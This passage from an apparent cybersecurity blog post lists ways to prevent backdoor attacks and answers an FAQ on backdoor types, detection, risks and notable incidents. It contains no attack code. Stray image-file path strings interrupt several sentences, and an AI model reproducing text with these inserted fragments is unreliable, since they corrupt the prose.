    • Use multi-factor authentication (MFA) and strong passwords to authenticate users and preventunauthorized access.
  3. Network Segmentation and Firewall Protection:
    • Segment networks into separate zones based on security requirements and implement firewalls to monitor and control traffic between zones.
    • Use intrusion detection systems (IDS) and intrusion prevention systems (IPS) to detect and block suspicious network activity indicative of backdoor attempts.
  4. Secure Coding Practices:
    • Follow secure coding practices, such as input validation, parameterized queries, and avoiding hardcoded credentials, to prevent injection attacks and backdoor vulnerabilities in software.
    • Conduct regular code reviews and security testing to identify and remediate potential backdoor risks in applications.
  5. User Awareness and Training:
    • Educate users and employees about phishing attacks, social engineering tactics, and the risks associated with downloading or installing unauthorized software.
    • Provide cybersecurity training and awareness programs to promote a security-conscious culture and encourage reporting of suspicious activities.
  6. Monitor and Audit System Activities:
    • Implement logging and monitoring mechanisms to track system and network activities for signs of unauthorized access or backdoor attempts.
    • Conduct regular security audits and penetration testing to identify and mitigate potential backdoor vulnerabilities proactively.
  7. Encryption and Data Protection:
    • Encrypt sensitive data at rest and in transit using strong encryption algorithms and secure encryption keys to protect against data breachesand unauthorized access.
    • Implement data loss prevention (DLP) measures to preventunauthorized data exfiltration through backdoors or malicious activities.
  8. Incident Response and Contingency Planning:
    • Develop and maintain an incident response plan to quickly respond to and contain backdoor-related security incidents.
    • Regularly test incident response procedures and conduct tabletop exercises to ensure readiness for backdoor attacks and other cybersecurity threats.

By implementing these proactive backdoor prevention strategies, organizations can enhance their cybersecurity posture, mitigate the risk of backdoor attacks, and protect critical assets and data from unauthorized access andexploitation.


By gaining a comprehensive understanding of how hackers install backdoors and maintain persistent access, organizations can enhance their cybersecurity posture and resilience against cyber threats. Implementing proactive security measures, conducting regular audits and monitoring, and fostering a culture of cybersecurity awareness are paramount in safeguarding against backdoor intrusions.


  1. What are the types of backdoors?
    Backdoors can be categorized into different types, including hardware backdoors (built-in vulnerabilities in hardware components), software backdoors (malicious code inserted into software), and network-based backdoors (unauthorized access points within a network).
  2. Is Persistence Another Word for an Advanced Persistent Threat (APT)?
    While persistence is a key component of an Advanced Persistent Threat (APT), they are not synonymous. APTs encompass a broader spectrum of sophisticated, targeted cyberattacks that involve persistent access, reconnaissance, and stealthy operations aimed at specific targets over extended periods.
  3. What are the risks of backdoors in cybersecurity?
    Backdoors posesignificant risks to cybersecurity, as they can be exploited by attackers to gain unauthorized access, steal sensitive data, disrupt operations, and compromise system integrity. They also undermine trust in software and systems.
  4. How can backdoors be detected?
    Detecting backdoors requires a combination of techniques, including regular security audits, network monitoring for unusual activity, analyzing system logs for suspicious behavior, and employing intrusion detection systems (IDS) and intrusion prevention systems (IPS).
  5. What are the legal and ethical implications of using backdoors?
    Using backdoors for malicious purposes is illegal and unethical, as it violates privacy rights, breaches confidentiality, and undermines cybersecurity principles. Ethical hackers must adhere to responsible disclosure practices and avoid exploiting backdoors withoutauthorization.
  6. How can organizations prevent backdoor attacks?
    Organizations can prevent backdoor attacks by implementing strong access control measures, regularly updating and patching software, conducting security training for employees, monitoring for unauthorized access, and employing encryption to protect sensitive data.
  7. What are some notable examples of backdoor attacks?
    Notable examples of backdoor attacks include the Stuxnet worm targeting Iran’s nuclear program, the Shadow Brokers leak of NSA hacking tools, and the Equifax data breach involving exploitation of a software vulnerability.
  8. What are advanced backdoor techniques used by attackers?
    Advanced backdoor techniques used by attackers include rootkits (stealthy malware that hides its presence), covert channels (secret communication channels within a network), and persistence mechanisms (methods to maintain access even after system reboots or updates).
  9. What are the future trends in backdoor technologies and defenses?
    Future trends in backdoor technologies and defenses include increased focus on secure coding practices, the development of artificial intelligence (AI)-powered detection tools, and advancements in encryption and authentication mechanisms to thwart backdoor attacks.

Leave a Comment

Your email address will not be published. Required fields are marked *

Scroll to Top